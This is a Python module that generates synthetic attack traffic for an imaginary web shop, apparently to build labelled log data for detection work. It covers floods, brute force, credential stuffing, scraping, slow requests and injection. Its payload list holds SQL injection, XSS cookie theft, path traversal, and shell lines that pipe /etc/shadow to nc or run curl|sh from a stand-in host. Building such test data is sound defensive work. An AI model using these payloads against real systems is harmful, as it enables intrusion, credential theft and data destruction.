"""Made-up attacks on a shop: the requests of one incident, by kind.

flood (many at once, slow answers), brute_force (one account, many passwords), credential_stuffing (many clients, each with a
few accounts from a leak), scraping (page after page), injection (code where a value should stand), slow (open for long).
"""

import math
from collections.abc import Callable
from dataclasses import dataclass
from typing import Final
from urllib.parse import quote_plus

import numpy as np

N_ATTACKERS: Final = 40
_N_STUFFING: Final = 200
_NAMES: Final = (
    "anna",
    "ben",
    "o'brien",
    "carla",
    "d'angelo",
    "eva",
    "li.wei",
    "greta",
    "hugo",
    "maria-jose",
    "jon",
    "zoe",
)
_PAYLOADS: Final = (
    "' OR {n}={n} --",
    "1' UNION SELECT login, hash FROM users WHERE id={n}--",
    "{n}); DROP TABLE orders;--",
    "1 AND (SELECT COUNT(*) FROM information_schema.tables)>{n}",
    "'; WAITFOR DELAY '0:0:{n}'--",
    "<script>alert({n})</script>",
    '"><img src=x onerror=alert({n})>',
    "javascript:document.location='//198.51.100.{n}/'+document.cookie",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "; cat /etc/shadow | nc 198.51.100.{n} 80",
    "$(curl 198.51.100.{n}/x.sh|sh)",
    "{{{{ {n}*{n} }}}}",
    "%00../%c0%ae%c0%ae/{n}",
)
_FIELDS: Final = ("q", "item", "page", "sort", "email")


@dataclass(frozen=True, kw_only=True)
class Request:
    """One request as the shop's log has it, `after_s` seconds after the one before of the same visit or incident."""

    after_s: float
    client: str
    seconds: float
    size: float
    method: str
    path: str
    status: int
    query: str | None = None
    body: str | None = None


def incident(kind: str, rng: np.random.Generator, n: int) -> list[Request]:
    """The `n` requests of one incident of a kind of `KINDS`."""
    return _MAKERS[kind](rng, n)


def seconds(rng: np.random.Generator) -> float:
    """What an answer takes."""
    return float(rng.lognormal(math.log(0.12), 0.45))


def account(rng: np.random.Generator) -> str:
    """A name that somebody logs in with: attackers have theirs from a leak, so that they look like anybody's."""
    return f"{rng.choice(_NAMES)}{int(rng.integers(1, 1_000))}@mail.example"


def _attacker(rng: np.random.Generator) -> str:
    return f"198.51.100.{int(rng.integers(1, N_ATTACKERS + 1))}"


def _pause(rng: np.random.Generator, mean_s: float) -> float:
    # Never at the same microsecond: no two rows are one.
    return max(float(rng.exponential(mean_s)), 1e-5)


def _flood(rng: np.random.Generator, n: int) -> list[Request]:
    client, path = _attacker(rng), f"/items/{int(rng.integers(1, 201))}"
    return [
        Request(
            after_s=_pause(rng, 0.3),
            client=client,
            seconds=seconds(rng) * float(rng.uniform(4.0, 15.0)),
            size=float(rng.lognormal(math.log(450.0), 0.4)),
            method="GET",
            path=path,
            status=503 if rng.random() < 0.6 else 200,
        )
        for _ in range(n)
    ]


def _brute_force(rng: np.random.Generator, n: int) -> list[Request]:
    client, user = _attacker(rng), "admin" if rng.random() < 0.3 else account(rng)
    return [_log_in(rng, client, user, pause_s=1.5) for _ in range(n)]


def _credential_stuffing(rng: np.random.Generator, n: int) -> list[Request]:
    made: list[Request] = []
    while len(made) < n:
        client = f"203.0.113.{int(rng.integers(1, _N_STUFFING + 1))}"
        left = n - len(made)
        n_own = left if left < 6 else int(rng.integers(3, min(6, left - 2)))
        made += [_log_in(rng, client, account(rng), pause_s=4.0) for _ in range(n_own)]
    return made


def _log_in(rng: np.random.Generator, client: str, user: str, *, pause_s: float) -> Request:
    return Request(
        after_s=_pause(rng, pause_s),
        client=client,
        seconds=seconds(rng),
        size=float(rng.normal(350.0, 20.0)),
        method="POST",
        path="/login",
        status=401 if rng.random() < 0.97 else 302,
        body=f"user={quote_plus(user)}",
    )


def _scraping(rng: np.random.Generator, n: int) -> list[Request]:
    client, first = _attacker(rng), int(rng.integers(1, 60))
    return [
        Request(
            after_s=_pause(rng, 1.5),
            client=client,
            seconds=seconds(rng) * float(rng.uniform(0.9, 2.0)),
            size=float(rng.normal(300.0, 20.0)),
            method="GET",
            path="/items",
            status=int(rng.choice((200, 404, 429), p=(0.8, 0.1, 0.1))),
            query=f"page={first + place}",
        )
        for place in range(n)
    ]


def _injection(rng: np.random.Generator, n: int) -> list[Request]:
    client, made = _attacker(rng), list[Request]()
    for _ in range(n):
        payload = str(rng.choice(_PAYLOADS)).format(n=int(rng.integers(2, 255)))
        value = quote_plus(payload)
        if rng.random() < 0.15:
            value = quote_plus(value)
        text, is_post = f"{rng.choice(_FIELDS)}={value}", rng.random() < 0.5
        if rng.random() < 0.5:
            text += f"&page={int(rng.integers(1, 4))}"
        is_large = is_post and rng.random() < 0.5
        made.append(
            Request(
                after_s=_pause(rng, 3.0),
                client=client,
                seconds=seconds(rng) * float(rng.uniform(0.8, 2.0)),
                size=float(rng.lognormal(math.log(5_000.0 if is_large else 900.0), 0.6)),
                method="POST" if is_post else "GET",
                path="/search",
                status=int(rng.choice((200, 400, 500), p=(0.6, 0.1, 0.3))),
                query=None if is_post else text,
                body=text if is_post else None,
            )
        )
    return made


def _slow(rng: np.random.Generator, n: int) -> list[Request]:
    client = _attacker(rng)
    return [
        Request(
            after_s=_pause(rng, 5.0),
            client=client,
            seconds=float(rng.uniform(10.0, 60.0)),
            size=float(rng.lognormal(math.log(450.0), 0.4)),
            method="GET",
            path="/items",
            status=408,
        )
        for _ in range(n)
    ]


_MAKERS: Final[dict[str, Callable[[np.random.Generator, int], list[Request]]]] = {
    "flood": _flood,
    "brute_force": _brute_force,
    "credential_stuffing": _credential_stuffing,
    "scraping": _scraping,
    "injection": _injection,
    "slow": _slow,
}
KINDS: Final = tuple(_MAKERS)
